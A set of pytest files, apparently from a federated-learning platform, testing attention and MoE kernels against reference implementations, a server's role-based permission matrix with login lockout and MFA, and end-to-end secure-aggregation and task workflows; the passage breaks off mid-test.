    ref = reference_attention(q, k, v, causal=causal)
    assert out.dtype == q.dtype and out.shape == q.shape
    np.testing.assert_allclose(np.asarray(out), np.asarray(ref),
                               rtol=1e-5, atol=1e-5)


@pytest.mark.parametrize("causal", [False, True])
def test_flash_attention_matches_reference_bf16(causal):
    import jax.numpy as jnp

    from vantage6_trn.ops.kernels.attention_bass import flash_attention
    from vantage6_trn.parallel.ring import reference_attention

    q, k, v = _qkv((2, 9, 2, 8), jnp.bfloat16, seed=4)
    out = flash_attention(q, k, v, causal=causal)
    ref = reference_attention(q, k, v, causal=causal)
    assert out.dtype == jnp.bfloat16
    np.testing.assert_allclose(
        np.asarray(out, np.float32), np.asarray(ref, np.float32),
        rtol=1e-2, atol=1e-2,
    )


def test_recompute_attn_gradients_match_reference():
    """The custom-vjp wrapper (flash forward, recompute backward) must
    produce the same gradients as differentiating the reference."""
    import jax
    import jax.numpy as jnp

    from vantage6_trn.models.transformer import _recompute_attn
    from vantage6_trn.parallel.ring import reference_attention

    q, k, v = _qkv((1, 9, 2, 8), jnp.float32, seed=5)
    attn = _recompute_attn(causal=True)

    def loss_flash(q_, k_, v_):
        return (attn(q_, k_, v_) ** 2).sum()

    def loss_ref(q_, k_, v_):
        return (reference_attention(q_, k_, v_, causal=True) ** 2).sum()

    g_flash = jax.grad(loss_flash, argnums=(0, 1, 2))(q, k, v)
    g_ref = jax.grad(loss_ref, argnums=(0, 1, 2))(q, k, v)
    for gf, gr in zip(g_flash, g_ref):
        np.testing.assert_allclose(np.asarray(gf), np.asarray(gr),
                                   rtol=1e-5, atol=1e-5)


def test_flash_attention_under_jit_traces_cleanly():
    # traced calls must take the XLA path (a bass_exec custom call has
    # to be the whole program) without erroring
    import jax
    import jax.numpy as jnp

    from vantage6_trn.ops.kernels.attention_bass import flash_attention
    from vantage6_trn.parallel.ring import reference_attention

    q, k, v = _qkv((1, 8, 2, 8), jnp.float32, seed=6)
    out = jax.jit(lambda a, b, c: flash_attention(a, b, c, causal=True))(
        q, k, v)
    ref = reference_attention(q, k, v, causal=True)
    np.testing.assert_allclose(np.asarray(out), np.asarray(ref),
                               rtol=1e-5, atol=1e-5)


def test_decode_attention_matches_masked_softmax():
    import jax
    import jax.numpy as jnp

    from vantage6_trn.ops.kernels.attention_bass import decode_attention

    rng = np.random.default_rng(7)
    b, t, h, dh, pos = 2, 12, 3, 8, 6
    q = jnp.asarray(rng.normal(size=(b, h, dh)).astype(np.float32))
    ks = jnp.asarray(rng.normal(size=(b, t, h, dh)).astype(np.float32))
    vs = jnp.asarray(rng.normal(size=(b, t, h, dh)).astype(np.float32))
    out = decode_attention(q, ks, vs, pos)

    s = np.einsum("bhd,bthd->bht", q, ks) / np.sqrt(dh)
    s[:, :, pos + 1:] = -np.inf
    p = np.asarray(jax.nn.softmax(jnp.asarray(s), axis=-1))
    ref = np.einsum("bht,bthd->bhd", p, vs)
    assert out.shape == (b, h, dh)
    np.testing.assert_allclose(np.asarray(out), ref, rtol=1e-5, atol=1e-5)


def test_lora_apply_matches_expression():
    from vantage6_trn.ops.kernels.attention_bass import lora_apply

    rng = np.random.default_rng(8)
    m, n, r = 129, 70, 4  # crosses the 128-partition tile boundary
    w = rng.normal(size=(m, n)).astype(np.float32)
    a = rng.normal(size=(m, r)).astype(np.float32)
    b = rng.normal(size=(r, n)).astype(np.float32)
    out = lora_apply(w, a, b, alpha_over_r=2.0, clip_scale=0.5)
    ref = 0.5 * w + 2.0 * (a @ b)
    np.testing.assert_allclose(np.asarray(out), ref, rtol=1e-5, atol=1e-5)


def test_attn_dispatch_counter_stays_zero_on_fallback():
    """Without concourse + neuron hardware the jax path runs and the
    dispatch counter must NOT advance — fallback never counts as
    silicon (the bench asserts on exactly this invariant)."""
    from vantage6_trn.common.telemetry import REGISTRY
    from vantage6_trn.ops.kernels.attention_bass import (
        flash_attention,
        lora_apply,
        resolve_attn_backend,
    )

    if resolve_attn_backend() != "jax":
        pytest.skip("neuron hardware present: dispatch would count")

    def total():
        return sum(v for k, v in REGISTRY.snapshot().items()
                   if k.startswith("v6_attn_kernel_dispatch_total"))

    before = total()
    q, k, v = _qkv((1, 8, 2, 8), np.float32, seed=9)
    flash_attention(q, k, v, causal=True)
    rng = np.random.default_rng(10)
    lora_apply(rng.normal(size=(16, 8)).astype(np.float32),
               rng.normal(size=(16, 2)).astype(np.float32),
               rng.normal(size=(2, 8)).astype(np.float32))
    assert total() == before


def test_resolve_attn_backend_rejects_unknown():
    from vantage6_trn.ops.kernels.attention_bass import resolve_attn_backend

    with pytest.raises(ValueError):
        resolve_attn_backend("triton")
    assert resolve_attn_backend("jax") == "jax"
