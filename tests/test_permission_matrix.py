"""Reference-style permission matrix (SURVEY.md §4 'big matrix-style
tests over scope×operation'): a two-collaboration world exercised by
every identity kind, asserting BOTH the allow and the deny side of each
route — including the round-2 hardening (collab/node/port/store
visibility, login lockout, run status transitions)."""

import time

import pytest
import requests

from vantage6_trn.server import ServerApp

ROOT_PW = "rootpw"
PW = "a-user-pw"


@pytest.fixture(scope="module")
def world():
    """Two collaborations: A = {org1, org2}, B = {org3}; a node per org;
    users per org with Root / Researcher / Viewer / no-role bundles."""
    app = ServerApp(root_password=ROOT_PW, jwt_secret="test-secret")
    port = app.start()
    base = f"http://127.0.0.1:{port}/api"
    root = _login(base, "root", ROOT_PW)

    orgs = {}
    for name in ("org1", "org2", "org3"):
        r = requests.post(f"{base}/organization", json={"name": name},
                          headers=root)
        assert r.status_code == 201, r.text
        orgs[name] = r.json()["id"]
    collabs = {}
    for cname, members in (("A", ["org1", "org2"]), ("B", ["org3"])):
        r = requests.post(
            f"{base}/collaboration",
            json={"name": cname,
                  "organization_ids": [orgs[m] for m in members]},
            headers=root,
        )
        assert r.status_code == 201, r.text
        collabs[cname] = r.json()["id"]
    nodes = {}
    for name, cname in (("org1", "A"), ("org2", "A"), ("org3", "B")):
        r = requests.post(
            f"{base}/node",
            json={"organization_id": orgs[name],
                  "collaboration_id": collabs[cname]},
            headers=root,
        )
        assert r.status_code == 201, r.text
        nodes[name] = r.json()

    users = {"root": root}
    for uname, org, roles in (
        ("res1", "org1", ["Researcher"]),
        ("view1", "org1", ["Viewer"]),
        ("res3", "org3", ["Researcher"]),
        ("norole1", "org1", []),
    ):
        r = requests.post(
            f"{base}/user",
            json={"username": uname, "password": PW,
                  "organization_id": orgs[org], "roles": roles},
            headers=root,
        )
        assert r.status_code == 201, r.text
        users[uname] = _login(base, uname, PW)

    node_hdrs = {}
    for name, n in nodes.items():
        r = requests.post(f"{base}/token/node", json={"api_key": n["api_key"]})
        assert r.status_code == 200, r.text
        node_hdrs[name] = {
            "Authorization": f"Bearer {r.json()['access_token']}"
        }

    yield {"app": app, "base": base, "orgs": orgs, "collabs": collabs,
           "nodes": nodes, "users": users, "node_hdrs": node_hdrs}
    app.stop()


def _login(base, username, password):
    r = requests.post(f"{base}/token/user",
                      json={"username": username, "password": password})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


# ---------------------------------------------------------------- matrix
def _get(w, who, path, **kw):
    hdr = w["users"].get(who) or w["node_hdrs"][who]
    return requests.get(f"{w['base']}{path}", headers=hdr, **kw)


def _post(w, who, path, body):
    hdr = w["users"].get(who) or w["node_hdrs"][who]
    return requests.post(f"{w['base']}{path}", json=body, headers=hdr)


def test_org_visibility_matrix(world):
    w = world
    # list filtering per identity
    for who, expect in (
        ("root", {"org1", "org2", "org3"}),
        ("res1", {"org1", "org2"}),      # collaboration scope
        ("view1", {"org1", "org2"}),
        ("res3", {"org3"}),
        ("org1", {"org1", "org2"}),      # node identity
    ):
        r = _get(w, who, "/organization")
        assert r.status_code == 200, (who, r.text)
        assert {o["name"] for o in r.json()["data"]} == expect, who
    # single-org deny side
    o3 = w["orgs"]["org3"]
    assert _get(w, "res1", f"/organization/{o3}").status_code == 403
    assert _get(w, "root", f"/organization/{o3}").status_code == 200
    # no view rule at all → 403
    assert _get(w, "norole1", "/organization").status_code == 403


def test_collaboration_visibility_matrix(world):
    w = world
    a, b = w["collabs"]["A"], w["collabs"]["B"]
    for who, cid, status in (
        ("root", b, 200),
        ("res1", a, 200), ("res1", b, 403),
        ("res3", b, 200), ("res3", a, 403),
        ("org1", a, 200), ("org1", b, 403),   # node identity
    ):
        assert _get(w, who, f"/collaboration/{cid}").status_code == status, \
            (who, cid)
    # creation is GLOBAL-only
    assert _post(w, "res1", "/collaboration",
                 {"name": "x"}).status_code == 403


def test_node_visibility_matrix(world):
    w = world
    n1, n3 = w["nodes"]["org1"]["id"], w["nodes"]["org3"]["id"]
    for who, nid, status in (
        ("root", n3, 200),
        ("res1", n1, 200), ("res1", n3, 403),
        ("view1", n1, 200),
        ("res3", n3, 200), ("res3", n1, 403),
    ):
        assert _get(w, who, f"/node/{nid}").status_code == status, (who, nid)
    # api_key never leaks on reads
    assert "api_key" not in _get(w, "root", f"/node/{n1}").json()
    # node creation: Researcher bundle has no node|create rule
    assert _post(w, "res1", "/node",
                 {"organization_id": w["orgs"]["org1"],
                  "collaboration_id": w["collabs"]["A"]}).status_code == 403


def test_task_create_matrix(world):
    w = world
    a, b = w["collabs"]["A"], w["collabs"]["B"]
    body_a = {"collaboration_id": a, "image": "v6-trn://stats",
              "organizations": [{"id": w["orgs"]["org1"]}]}
    body_b = {"collaboration_id": b, "image": "v6-trn://stats",
              "organizations": [{"id": w["orgs"]["org3"]}]}
    assert _post(w, "res1", "/task", body_a).status_code == 201
    assert _post(w, "res1", "/task", body_b).status_code == 403  # not member
    assert _post(w, "view1", "/task", body_a).status_code == 403  # no create
    assert _post(w, "org1", "/task", body_a).status_code == 403  # nodes can't
    assert _post(w, "root", "/task", body_b).status_code == 201  # GLOBAL

    # cross-collab task reads
    tid_b = _get(w, "res3", "/task").json()["data"][0]["id"]
    assert _get(w, "res1", f"/task/{tid_b}").status_code == 403
    # kill: viewer has no task|send
    tid_a = _get(w, "res1", "/task").json()["data"][0]["id"]
    assert _post(w, "view1", f"/task/{tid_a}/kill", {}).status_code == 403
    assert _post(w, "res1", f"/task/{tid_a}/kill", {}).status_code == 200


def test_user_listing_scoped(world):
    w = world
    r = _get(w, "res1", "/user")
    assert r.status_code == 200
    unames = {u["username"] for u in r.json()["data"]}
    assert "res3" not in unames and "res1" in unames
    # Viewer bundle has no user|view rule → deny
    assert _get(w, "view1", "/user").status_code == 403


def test_run_patch_transitions_and_ownership(world):
    w = world
    body = {"collaboration_id": w["collabs"]["A"], "image": "v6-trn://x",
            "organizations": [{"id": w["orgs"]["org1"]}]}
    t = _post(w, "res1", "/task", body).json()
    run_id = t["runs"][0]["id"]
    # another org's node may not touch the run
    r = requests.patch(f"{w['base']}/run/{run_id}",
                       json={"status": "active"},
                       headers=w["node_hdrs"]["org2"])
    assert r.status_code == 403
    # owning node: claim → completed is legal
    r = _post(w, "org1", f"/run/{run_id}/claim", {})
    assert r.status_code == 200, r.text
    r = requests.patch(f"{w['base']}/run/{run_id}",
                       json={"status": "completed", "result": "{}"},
                       headers=w["node_hdrs"]["org1"])
    assert r.status_code == 200, r.text
    # terminal state is immutable: completed → pending/active rejected
    for bad in ("pending", "active"):
        r = requests.patch(f"{w['base']}/run/{run_id}",
                           json={"status": bad},
                           headers=w["node_hdrs"]["org1"])
        assert r.status_code == 409, (bad, r.text)
    # unknown status string rejected
    t2 = _post(w, "res1", "/task", body).json()
    r = requests.patch(f"{w['base']}/run/{t2['runs'][0]['id']}",
                       json={"status": "sideways"},
                       headers=w["node_hdrs"]["org1"])
    assert r.status_code == 400
    # users lacking run|view in the collab can't read the run
    r = _get(w, "res3", f"/run/{run_id}")
    assert r.status_code == 403


def test_port_registry_scoped(world):
    w = world
    body = {"collaboration_id": w["collabs"]["A"], "image": "v6-trn://x",
            "organizations": [{"id": w["orgs"]["org1"]}]}
    t = _post(w, "res1", "/task", body).json()
    run_id = t["runs"][0]["id"]
    r = _post(w, "org1", "/port", {"run_id": run_id, "port": 19999,
                                   "label": "mx"})
    assert r.status_code == 201, r.text
    # visible inside collaboration A
    ports = _get(w, "org1", "/port").json()["data"]
    assert any(p["port"] == 19999 for p in ports)
    # invisible to collaboration B's researcher and node
    for who in ("res3", "org3"):
        ports = _get(w, who, "/port").json()["data"]
        assert not any(p["port"] == 19999 for p in ports), who
    # other orgs may not register ports on this run
    assert _post(w, "org2", "/port",
                 {"run_id": run_id, "port": 2}).status_code == 403


def test_algorithm_store_scoped(world):
    w = world
    for name, collab in (("store-a", w["collabs"]["A"]),
                         ("store-b", w["collabs"]["B"]),
                         ("store-global", None)):
        r = _post(w, "root", "/algorithm_store",
                  {"name": name, "url": "http://x", "collaboration_id": collab})
        assert r.status_code == 201, r.text
    # store creation needs GLOBAL scope
    assert _post(w, "res1", "/algorithm_store",
                 {"name": "nope", "url": "http://x"}).status_code == 403
    names = lambda who: {s["name"] for s in
                         _get(w, who, "/algorithm_store").json()["data"]}
    assert {"store-a", "store-b", "store-global"} <= names("root")
    assert "store-b" not in names("res1")
    assert {"store-a", "store-global"} <= names("res1")
    assert "store-a" not in names("res3")


def test_login_lockout_and_mfa_counting(world):
    w = world
    base = w["base"]
    r = requests.post(f"{base}/user",
                      json={"username": "locky", "password": PW,
                            "organization_id": w["orgs"]["org1"]},
                      headers=w["users"]["root"])
    assert r.status_code == 201
    for _ in range(5):
        r = requests.post(f"{base}/token/user",
                          json={"username": "locky", "password": "wrong"})
        assert r.status_code == 401
    # locked now — even the correct password is refused
    r = requests.post(f"{base}/token/user",
                      json={"username": "locky", "password": PW})
    assert r.status_code == 429
    # after the lockout window the correct password works again
    uid = w["app"].db.one("SELECT id FROM user WHERE username='locky'")["id"]
    w["app"].db.update("user", uid, last_failed_login=time.time() - 3600)
    r = requests.post(f"{base}/token/user",
                      json={"username": "locky", "password": PW})
    assert r.status_code == 200
    # counter reset on success
    assert w["app"].db.get("user", uid)["failed_logins"] == 0
    # drip-DoS resistance: one failure after an expired window must NOT
    # re-lock (counter decayed); the user can still log in
    w["app"].db.update("user", uid, failed_logins=5,
                       last_failed_login=time.time() - 3600)
    r = requests.post(f"{base}/token/user",
                      json={"username": "locky", "password": "wrong"})
    assert r.status_code == 401  # not 429: window expired, count reset
    r = requests.post(f"{base}/token/user",
                      json={"username": "locky", "password": PW})
    assert r.status_code == 200


def test_wrong_mfa_counts_toward_lockout(world):
    w = world
    base = w["base"]
    r = requests.post(f"{base}/user",
                      json={"username": "mfa-lock", "password": PW,
                            "organization_id": w["orgs"]["org1"]},
                      headers=w["users"]["root"])
    assert r.status_code == 201
    hdr = _login(base, "mfa-lock", PW)
    secret = requests.post(f"{base}/user/mfa/setup", headers=hdr,
                           json={}).json()["otp_secret"]
    from vantage6_trn.common import totp
    requests.post(f"{base}/user/mfa/enable", headers=hdr,
                  json={"mfa_code": totp.totp_now(secret)})
    uid = w["app"].db.one(
        "SELECT id FROM user WHERE username='mfa-lock'")["id"]
    assert w["app"].db.get("user", uid)["otp_enabled"] == 1
    for _ in range(5):
        r = requests.post(f"{base}/token/user",
                          json={"username": "mfa-lock", "password": PW,
                                "mfa_code": "000000"})
        assert r.status_code == 401
    r = requests.post(f"{base}/token/user",
                      json={"username": "mfa-lock", "password": PW,
                            "mfa_code": totp.totp_now(secret)})
    assert r.status_code == 429


def test_user_current_identity_matrix(world):
    """GET /user/current: every user token resolves to itself; node and
    container identities are rejected (user-only introspection)."""
    w = world
    for uname in ("res1", "view1", "res3", "norole1"):
        r = _get(w, uname, "/user/current")
        assert r.status_code == 200, (uname, r.text)
        assert r.json()["username"] == uname
    r = _get(w, "org1", "/user/current")  # node token
    assert r.status_code == 403
    # unauthenticated
    assert requests.get(f"{w['base']}/user/current").status_code == 401


def test_mfa_and_study_endpoints_require_user_identity(world):
    """Node tokens must not reach user-only surfaces added this round."""
    w = world
    assert _post(w, "org1", "/user/mfa/setup", {}).status_code == 403
    r = _post(w, "org1", "/study",
              {"name": "x", "collaboration_id": w["collabs"]["A"],
               "organization_ids": [w["orgs"]["org1"]]})
    assert r.status_code == 403


def test_encrypted_task_gate_in_matrix(world):
    """The initiator-key gate composes with the permission matrix: a
    researcher whose org has no key is refused in an encrypted collab,
    allowed again once the key exists."""
    pytest.importorskip("cryptography", reason="builds a real RSA key")
    import base64 as _b64

    w = world
    root = w["users"]["root"]
    r = requests.post(
        f"{w['base']}/collaboration",
        json={"name": "enc-matrix", "encrypted": True,
              "organization_ids": [w["orgs"]["org1"]]},
        headers=root,
    )
    cid = r.json()["id"]
    body = {"collaboration_id": cid, "image": "v6-trn://stats",
            "organizations": [{"id": w["orgs"]["org1"],
                               "input": _b64.b64encode(b"{}").decode()}]}
    r = _post(w, "res1", "/task", body)
    assert r.status_code == 400
    assert "public key" in r.json()["msg"]
    from vantage6_trn.common.encryption import RSACryptor

    requests.patch(
        f"{w['base']}/organization/{w['orgs']['org1']}",
        json={"public_key": RSACryptor(key_bits=2048).public_key_str},
        headers=root,
    )
    assert _post(w, "res1", "/task", body).status_code == 201
