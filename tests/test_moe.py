"""Expert-parallel switch MoE parity on the virtual CPU mesh."""

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from vantage6_trn.parallel.moe import (
    init_moe_params, make_moe_ffn, moe_ffn_dense, moe_mesh,
)


def _x(b=8, s=16, d=32, seed=0):
    rng = np.random.default_rng(seed)
    return jnp.asarray(rng.normal(size=(b, s, d)).astype(np.float32))


@pytest.mark.parametrize("n_data,n_expert", [(4, 2), (2, 4), (8, 1)])
def test_moe_matches_dense_with_ample_capacity(n_data, n_expert):
    mesh = moe_mesh(n_data, n_expert)
    params = init_moe_params(32, 64, n_experts=4)
    x = _x()
    # capacity_factor covering the worst case (all tokens → one expert)
    fn = make_moe_ffn(mesh, n_experts=4, capacity_factor=4.0)
    out = fn(params, x)
    ref = moe_ffn_dense(params, x)
    np.testing.assert_allclose(np.asarray(out), np.asarray(ref),
                               rtol=2e-4, atol=2e-5)


def test_moe_drops_over_capacity_tokens():
    """With capacity 1 per (device, expert), overflow tokens come back
    as exactly zero (the residual carries them — Switch semantics)."""
    mesh = moe_mesh(2, 2)
    params = init_moe_params(16, 32, n_experts=2, seed=1)
    x = _x(b=4, s=8, d=16, seed=1)
    out = np.asarray(make_moe_ffn(mesh, n_experts=2,
                                  capacity_factor=0.01)(params, x))
    ref = np.asarray(moe_ffn_dense(params, x))
    flat_out = out.reshape(-1, 16)
    flat_ref = ref.reshape(-1, 16)
    zero_rows = np.all(flat_out == 0, axis=1)
    assert zero_rows.any(), "tiny capacity must drop some tokens"
    # surviving rows match the dense routing exactly
    np.testing.assert_allclose(flat_out[~zero_rows], flat_ref[~zero_rows],
                               rtol=2e-4, atol=2e-5)


def test_moe_gradients_match_dense():
    mesh = moe_mesh(4, 2)
    params = init_moe_params(32, 64, n_experts=4, seed=2)
    x = _x(seed=2)
    fn = make_moe_ffn(mesh, n_experts=4, capacity_factor=4.0)

    g = jax.grad(lambda p: jnp.mean(fn(p, x) ** 2))(params)
    g_ref = jax.grad(lambda p: jnp.mean(moe_ffn_dense(p, x) ** 2))(params)
    for k in ("w1", "w2", "gate"):
        np.testing.assert_allclose(np.asarray(g[k]), np.asarray(g_ref[k]),
                                   rtol=5e-4, atol=5e-5)


def test_moe_rejects_indivisible_experts():
    mesh = moe_mesh(2, 4)
    with pytest.raises(ValueError, match="expert"):
        make_moe_ffn(mesh, n_experts=6)


def test_moe_lm_train_step_matches_dense_sgd():
    """The expert-parallel LM step (one shard_map: trunk + MoE FFNs +
    vocab head + SGD) equals single-device SGD on the dense reference."""
    from jax.sharding import NamedSharding

    from vantage6_trn.parallel.moe import (
        init_moe_lm_params, make_moe_lm_train_step, moe_lm_loss_dense,
    )

    V, D, L, H, FF, E = 13, 8, 2, 2, 16, 4
    params = init_moe_lm_params(V, d_model=D, n_layers=L, n_heads=H,
                                d_ff=FF, n_experts=E, max_len=12)
    params = {k: jnp.asarray(v) for k, v in params.items() if k != "_meta"}
    rng = np.random.default_rng(7)
    tokens = jnp.asarray(rng.integers(0, V, size=(8, 10)), jnp.int32)

    mesh = moe_mesh(4, 2)
    make = make_moe_lm_train_step(mesh, n_layers=L, n_heads=H,
                                  n_experts=E, capacity_factor=8.0,
                                  lr=0.1)
    step, spec = make(params)
    from jax.sharding import PartitionSpec as P

    placed = {k: jax.device_put(v, NamedSharding(mesh, spec[k]))
              for k, v in params.items()}
    toks_placed = jax.device_put(tokens, NamedSharding(mesh, P("data")))
    new, loss = step(placed, toks_placed)

    # dense single-device reference step
    ref_loss, ref_g = jax.value_and_grad(
        lambda p: moe_lm_loss_dense(p, tokens, n_layers=L, n_heads=H)
    )(params)
    np.testing.assert_allclose(float(loss), float(ref_loss),
                               rtol=1e-4, atol=1e-6)
    for k in params:
        ref_new = params[k] - 0.1 * ref_g[k]
        np.testing.assert_allclose(
            np.asarray(new[k]), np.asarray(ref_new),
            rtol=5e-4, atol=5e-5, err_msg=k,
        )


def test_moe_aux_loss_balances_gate():
    """aux_weight adds the Switch load-balancing term: the loss grows
    by it and the gate gradient changes (without it, top-1 routing has
    no pressure against expert collapse)."""
    from jax.sharding import NamedSharding, PartitionSpec as P

    from vantage6_trn.parallel.moe import (
        init_moe_lm_params, make_moe_lm_train_step,
    )

    V, D, L, H, FF, E = 11, 8, 1, 2, 16, 4
    params = init_moe_lm_params(V, d_model=D, n_layers=L, n_heads=H,
                                d_ff=FF, n_experts=E, max_len=12)
    rng = np.random.default_rng(1)
    tokens = jnp.asarray(rng.integers(0, V, size=(4, 10)), jnp.int32)
    mesh = moe_mesh(2, 2)

    outs = {}
    for w in (0.0, 0.05):
        step, spec = make_moe_lm_train_step(
            mesh, n_layers=L, n_heads=H, n_experts=E,
            capacity_factor=8.0, aux_weight=w,
        )(params)
        placed = {k: jax.device_put(jnp.asarray(v),
                                    NamedSharding(mesh, spec[k]))
                  for k, v in params.items() if k != "_meta"}
        toks = jax.device_put(tokens, NamedSharding(mesh, P("data")))
        new, loss = step(placed, toks)
        outs[w] = (float(loss), np.asarray(new["L0.gate"]))
    assert outs[0.05][0] > outs[0.0][0]  # aux term is positive
    # the balancing pressure reaches the gate weights
    assert not np.allclose(outs[0.05][1], outs[0.0][1])
