"""Expert-parallel switch MoE parity on the virtual CPU mesh."""

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from vantage6_trn.parallel.moe import (
    init_moe_params, make_moe_ffn, moe_ffn_dense, moe_mesh,
)


def _x(b=8, s=16, d=32, seed=0):
    rng = np.random.default_rng(seed)
    return jnp.asarray(rng.normal(size=(b, s, d)).astype(np.float32))


@pytest.mark.parametrize("n_data,n_expert", [(4, 2), (2, 4), (8, 1)])
def test_moe_matches_dense_with_ample_capacity(n_data, n_expert):
    mesh = moe_mesh(n_data, n_expert)
    params = init_moe_params(32, 64, n_experts=4)
    x = _x()
    # capacity_factor covering the worst case (all tokens → one expert)
    fn = make_moe_ffn(mesh, n_experts=4, capacity_factor=4.0)
    out = fn(params, x)
    ref = moe_ffn_dense(params, x)
    np.testing.assert_allclose(np.asarray(out), np.asarray(ref),
                               rtol=2e-4, atol=2e-5)


def test_moe_drops_over_capacity_tokens():
    """With capacity 1 per (device, expert), overflow tokens come back
    as exactly zero (the residual carries them — Switch semantics)."""
    mesh = moe_mesh(2, 2)
    params = init_moe_params(16, 32, n_experts=2, seed=1)
    x = _x(b=4, s=8, d=16, seed=1)
    out = np.asarray(make_moe_ffn(mesh, n_experts=2,
                                  capacity_factor=0.01)(params, x))
    ref = np.asarray(moe_ffn_dense(params, x))
    flat_out = out.reshape(-1, 16)
    flat_ref = ref.reshape(-1, 16)
    zero_rows = np.all(flat_out == 0, axis=1)
    assert zero_rows.any(), "tiny capacity must drop some tokens"
    # surviving rows match the dense routing exactly
    np.testing.assert_allclose(flat_out[~zero_rows], flat_ref[~zero_rows],
                               rtol=2e-4, atol=2e-5)


def test_moe_gradients_match_dense():
    mesh = moe_mesh(4, 2)
    params = init_moe_params(32, 64, n_experts=4, seed=2)
    x = _x(seed=2)
    fn = make_moe_ffn(mesh, n_experts=4, capacity_factor=4.0)

    g = jax.grad(lambda p: jnp.mean(fn(p, x) ** 2))(params)
    g_ref = jax.grad(lambda p: jnp.mean(moe_ffn_dense(p, x) ** 2))(params)
    for k in ("w1", "w2", "gate"):
        np.testing.assert_allclose(np.asarray(g[k]), np.asarray(g_ref[k]),
                                   rtol=5e-4, atol=5e-5)


def test_moe_rejects_indivisible_experts():
    mesh = moe_mesh(2, 4)
    with pytest.raises(ValueError, match="expert"):
        make_moe_ffn(mesh, n_experts=6)
