"""Network-rung e2e for the model families (mock rung bypasses the wire:
these verify GLM/Cox/DP-SGD payloads survive serialize → encrypt →
server → node → dispatch), plus kill-task and late-node sync."""

import time

import numpy as np
import pytest

from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.encryption import HAVE_CRYPTOGRAPHY
from vantage6_trn.common.serialization import make_task_input
from vantage6_trn.dev import DemoNetwork
from vantage6_trn.node.daemon import Node

needs_crypto = pytest.mark.skipif(
    not HAVE_CRYPTOGRAPHY,
    reason="secure_agg key agreement (x25519) needs the cryptography package",
)


def _glm_tables(n_orgs=3, rows=80, seed=9):
    rng = np.random.default_rng(seed)
    beta = np.array([0.8, -0.6])
    tabs = []
    for _ in range(n_orgs):
        x = rng.normal(size=(rows, 2))
        y = (rng.uniform(size=rows) < 1 / (1 + np.exp(-(x @ beta)))).astype(
            float
        )
        tabs.append([Table({"x0": x[:, 0], "x1": x[:, 1], "y": y})])
    return tabs


@pytest.fixture(scope="module")
def net3():
    net = DemoNetwork(_glm_tables()).start()
    yield net
    net.stop()


def test_glm_over_the_wire(net3):
    client = net3.researcher(0)
    task = client.task.create(
        collaboration=net3.collaboration_id,
        organizations=[net3.org_ids[0]],
        name="glm", image="v6-trn://glm",
        input_=make_task_input(
            "fit", kwargs={"features": ["x0", "x1"], "label": "y",
                           "family": "binomial"},
        ),
    )
    (res,) = client.wait_for_results(task["id"], timeout=120)
    assert res["converged"], res
    assert set(res["coefficients"]) == {"(intercept)", "x0", "x1"}
    assert res["coefficients"]["x0"] > 0 > res["coefficients"]["x1"]


def test_dpsgd_over_the_wire(net3):
    client = net3.researcher(0)
    task = client.task.create(
        collaboration=net3.collaboration_id,
        organizations=[net3.org_ids[0]],
        name="dpsgd", image="v6-trn://dpsgd",
        input_=make_task_input(
            "fit_lora",
            kwargs={"label": "y", "features": ["x0", "x1"],
                    "n_features": 2, "hidden": [8], "n_classes": 2,
                    "rounds": 2, "epochs_per_round": 2,
                    "noise_multiplier": 0.1},
        ),
    )
    (res,) = client.wait_for_results(task["id"], timeout=120)
    assert res is not None
    assert res["dp"]["total_steps"] == 4
    assert "A0" in res["adapters"] and "B1" in res["adapters"]


@needs_crypto
def test_secure_agg_over_the_wire(net3):
    """Full Bonawitz-style session across real nodes: keygen →
    per-org-input masked sums (the proxy's per-recipient encryption
    path) → modular combine. Exact pooled parity."""
    client = net3.researcher(0)
    task = client.task.create(
        collaboration=net3.collaboration_id,
        organizations=[net3.org_ids[0]],
        name="secagg", image="v6-trn://secure-agg",
        input_=make_task_input(
            "secure_mean",
            kwargs={"columns": ["x0", "y"],
                    "organizations": net3.org_ids},
        ),
    )
    (res,) = client.wait_for_results(task["id"], timeout=120)
    pooled = np.concatenate(
        [np.asarray(t[0]["x0"]) for t in _glm_tables()]
    )
    np.testing.assert_allclose(res["mean"]["x0"], pooled.mean(), atol=1e-6)
    assert res["participants"] == 3 and res["dropped"] == []


@needs_crypto
def test_secure_agg_dropout_over_the_wire(net3):
    """One org's worker fails mid-session on the live wire; survivors
    reveal only their masks with the dropped org and the survivors'
    mean still comes out exact."""
    client = net3.researcher(0)
    fail_org = net3.org_ids[1]
    task = client.task.create(
        collaboration=net3.collaboration_id,
        organizations=[net3.org_ids[0]],
        name="secagg-drop", image="v6-trn://secure-agg",
        input_=make_task_input(
            "secure_mean",
            kwargs={"columns": ["x0", "y"],
                    "organizations": net3.org_ids,
                    "_fail_org": fail_org},
        ),
    )
    (res,) = client.wait_for_results(task["id"], timeout=120)
    assert res["dropped"] == [fail_org]
    tabs = _glm_tables()
    pooled = np.concatenate([
        np.asarray(t[0]["x0"]) for i, t in enumerate(tabs)
        if net3.org_ids[i] != fail_org
    ])
    np.testing.assert_allclose(res["mean"]["x0"], pooled.mean(), atol=1e-6)


def test_kill_task_over_the_wire(net3):
    client = net3.researcher(0)
    # a central task that would run many rounds — kill it mid-flight
    task = client.task.create(
        collaboration=net3.collaboration_id,
        organizations=[net3.org_ids[0]],
        name="slow", image="v6-trn://logreg",
        input_=make_task_input(
            "fit", kwargs={"features": ["x0", "x1"], "label": "y",
                           "rounds": 500, "epochs_per_round": 50},
        ),
    )
    time.sleep(1.0)
    client.task.kill(task["id"])
    deadline = time.time() + 30
    while time.time() < deadline:
        runs = client.run.from_task(task["id"])
        if runs and all(r["status"] in ("killed", "completed", "failed")
                        for r in runs):
            break
        time.sleep(0.5)
    assert runs[0]["status"] == "killed", runs


def test_late_node_syncs_pending_runs(net3):
    """A task created while one org's node is down is picked up when a
    fresh node for that org connects (crash-resume, SURVEY.md §5.3)."""
    root = net3.root_client()
    # create a brand-new org + node registration, but don't start the node
    org = root.organization.create(name="late-org")
    root.collaboration.create  # noqa: B018 (doc: collab already exists)
    # add the org to the existing collaboration
    collab = root.collaboration.get(net3.collaboration_id)
    root.request(
        "PATCH", f"/collaboration/{net3.collaboration_id}",
        json_body={"organization_ids": collab["organization_ids"] + [org["id"]]},
    )
    reg = root.node.create(net3.collaboration_id, organization_id=org["id"],
                           name="late-node")

    client = net3.researcher(0)
    task = client.task.create(
        collaboration=net3.collaboration_id,
        organizations=[org["id"]],
